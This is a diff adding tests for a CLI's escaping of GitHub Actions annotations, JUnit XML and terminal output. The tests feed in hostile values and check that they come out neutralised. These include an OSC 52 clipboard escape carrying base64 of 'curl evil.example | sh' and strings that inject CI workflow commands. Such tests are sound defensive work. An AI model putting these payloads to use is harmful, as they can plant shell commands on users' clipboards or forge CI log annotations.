@@ -7,7 +7,15 @@ import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import { createServer, type Server, type Socket } from 'node:net';
 import type { AddressInfo } from 'node:net';
-import { terminalJson, terminalLine, terminalLines } from '../../../cli/terminal';
+import {
+  githubMessage,
+  githubProperty,
+  terminalJson,
+  terminalLine,
+  terminalLines,
+  xmlText,
+} from '../../../cli/terminal';
+import { parseJunit } from '../../helpers/junitSchema';
 import { Cli, scratchDir, type CliResult } from './cliHarness';
 
 const ESC = '\x1b';
@@ -52,6 +60,29 @@ describe('terminalLine, terminalLines, terminalJson', () => {
     assert.ok(!/[\u2028\u2029]/.test(text));
     assert.deepEqual(JSON.parse(text), value);
     assert.ok(text.includes('Zürich 👨‍👩‍👧'));
+  });
+});
+
+describe('githubMessage, githubProperty, xmlText', () => {
+  test('T45: workflow-command escaping: % CR LF in messages, and : , in properties too; then terminal-safe', () => {
+    assert.equal(githubMessage('50% done\r\n::error::x'), '50%25 done%0D%0A::error::x');
+    assert.equal(githubMessage('%0A stays literal'), '%250A stays literal');
+    assert.equal(githubProperty('a,line=1::b\n::error file=x::y'), 'a%2Cline=1%3A%3Ab%0A%3A%3Aerror file=x%3A%3Ay');
+    assert.equal(
+      githubMessage(`t${OSC52}`),
+      `t\\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\\x07`,
+    );
+    assertClean('githubMessage', githubMessage(HOSTILE));
+  });
+
+  test('T45: XML text: markup as entities, no character XML 1.0 forbids (controls, lone surrogates, U+FFFE)', () => {
+    assert.equal(xmlText(`<a b="c" d='e'>&amp;</a>`), '&lt;a b=&quot;c&quot; d=&apos;e&apos;&gt;&amp;amp;&lt;/a&gt;');
+    assert.equal(
+      xmlText('\x00\x01\x1b[2J\ud800x\udc00\ufffe\uffff 👨‍👩‍👧'),
+      '\\x00\\x01\\x1b[2J\\ud800x\\udc00\\ufffe\\uffff 👨‍👩‍👧',
+    );
+    assert.equal(xmlText('one\ntwo'), 'one\\x0atwo');
+    assert.equal(xmlText('one\ntwo\r\n', true), 'one\ntwo\r\n');
   });
 });
 
@@ -192,6 +223,53 @@ describe('validate: file keys cannot drive the terminal or inject CI log lines',
     assert.ok(text.includes('evil\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\x0a::warning::x'), text);
     assert.ok(text.includes('"\\u009b2J" is not allowed'), text);
     assert.ok(text.includes('"a\\u202eb" is not allowed'), text);
+  });
+
+  test('T45: --format github: a file key or a file name cannot end its annotation or start another one', async () => {
+    files.write('a,line=1::b\n::error file=x::y.meeting.json', '{ "operation": 1 }');
+    for (const args of [
+      ['validate', '-f', 'github', 'keys.meeting.json', 'a,line=1::b\n::error file=x::y.meeting.json'],
+      ['check-examples', '-f', 'github', 'hostile.openapi.json'],
+    ]) {
+      const r = await failsClean(args);
+      const lines = r.stdout.trimEnd().split('\n');
+      // Every line is one annotation: a command, properties of known names whose values hold no : or ,, a message.
+      for (const line of lines) {
+        assert.match(
+          line,
+          /^::(error|warning|notice) (file|line|col|endLine|endColumn|title)=[^:,]*(,(line|col|endLine|endColumn|title)=[^:,]*)*::/,
+          line,
+        );
+      }
+      if (args[0] === 'validate') {
+        assert.equal(lines.length, 5, r.stdout);
+        assert.ok(r.stdout.includes('::"x%0A::error file=ci.yml,line=1::injected" is not a path parameter'), r.stdout);
+        assert.ok(
+          r.stdout.includes('::"evil\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07%0A::warning::x" is not'),
+          r.stdout,
+        );
+        assert.ok(
+          r.stdout.includes('::error file=a%2Cline=1%3A%3Ab%0A%3A%3Aerror file=x%3A%3Ay.meeting.json,line=1,'),
+          r.stdout,
+        );
+      } else {
+        assert.ok(r.stdout.includes(',title=schemas.Room%0A%3A%3Aerror%3A%3Ax\\x1b]52;c;'), r.stdout);
+      }
+    }
+  });
+
+  test('T45: --format junit: hostile keys stay inside their attribute or text, as valid XML 1.0', async () => {
+    const r = await failsClean(['validate', '-f', 'junit', 'keys.meeting.json']);
+    const [c] = parseJunit(r.stdout).suites[0].cases;
+    assert.ok(
+      c.failure?.text.includes('"x\\x0a::error file=ci.yml,line=1::injected" is not a path parameter'),
+      r.stdout,
+    );
+    assert.ok(c.failure?.text.includes('"\\u009b2J" is not allowed'), r.stdout);
+    assert.equal(c.failure?.text.split('\n').length, 4, r.stdout);
+    const examples = await failsClean(['check-examples', '-f', 'junit', 'hostile.openapi.json']);
+    const [e] = parseJunit(examples.stdout).suites[0].cases;
+    assert.ok(e.name.startsWith('schemas.Room\\x0a::error::x\\x1b]52;c;'), e.name);
   });
 
   test('T45: JSON and SARIF output keep the keys exact and carry no raw control characters', async () => {
